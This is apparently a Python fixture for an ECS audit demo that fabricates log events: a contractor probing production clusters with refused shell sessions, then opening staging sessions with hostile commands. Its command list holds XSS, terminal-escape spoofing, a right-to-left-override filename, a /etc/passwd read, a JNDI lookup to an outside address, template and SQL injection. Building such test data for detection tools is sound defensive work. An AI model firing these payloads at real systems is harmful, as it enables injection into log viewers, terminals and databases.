"""A contractor who tries doors, and commands that try whoever reads them."""

from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, date, datetime, time, timedelta

from ecsaudit.demo.accounts import PRODUCTION, STAGING, account, cluster, task_on
from ecsaudit.demo.calls import Actor, Call
from ecsaudit.demo.clients import CLI_LINUX, HOSTILE
from ecsaudit.demo.exec_calls import Attempt, Refusal, opened, refused
from ecsaudit.demo.people import CONTRACTOR

PROBE = Actor(CONTRACTOR.caller, "192.0.2.203", CLI_LINUX)
INJECTOR = Actor(CONTRACTOR.caller, "192.0.2.203", HOSTILE)

GUESSED_CLUSTERS = ("prod-vault", "prod-secrets", "prod-admin")

HOSTILE_COMMANDS = (
    "<img src=x onerror=alert(document.domain)>",
    "sh -c 'echo \"<script>alert(1)</script>\"'",
    "printf '\x1b[2J\x1b[31mall systems normal\x1b[0m'",
    "cat /app/invoice_\u202efdp.sh",
    "/bin/sh -c 'id\nuname -a\n\ncat /etc/passwd   |   head'",
    "echo {{7*7}} ${jndi:ldap://192.0.2.203/a} '; drop table sessions; --",
)


def probing(day: date) -> Iterator[Call]:
    """An evening at production's doors: every service in every Region, and clusters that might exist."""
    at = datetime.combine(day, time(21, 12, 8), UTC)
    for home in account(PRODUCTION).clusters:
        for service in home.services:
            for replica in range(2):
                task = task_on(day, PRODUCTION, home, service, replica=replica)
                yield refused(Attempt(PROBE, at, task, "/bin/bash"), Refusal.DENIED)
                at += timedelta(seconds=74 + 11 * replica)
    home = cluster(PRODUCTION, "prod-payments", "eu-west-1")
    for name in GUESSED_CLUSTERS:
        task = replace(task_on(day, PRODUCTION, home, home.services[0]), cluster=name)
        yield refused(Attempt(PROBE, at, task, "/bin/bash"), Refusal.NO_CLUSTER)
        at += timedelta(seconds=41)


def hostile_commands(day: date) -> Iterator[Call]:
    """Staging lets the contractor in, with commands made for terminals, browsers and log readers."""
    home = cluster(STAGING, "staging-web", "eu-west-1")
    task = task_on(day, STAGING, home, home.services[1])
    at = datetime.combine(day, time(20, 31, 30), UTC)
    for command in HOSTILE_COMMANDS:
        yield from opened(Attempt(INJECTOR, at, task, command))
        at += timedelta(seconds=95)
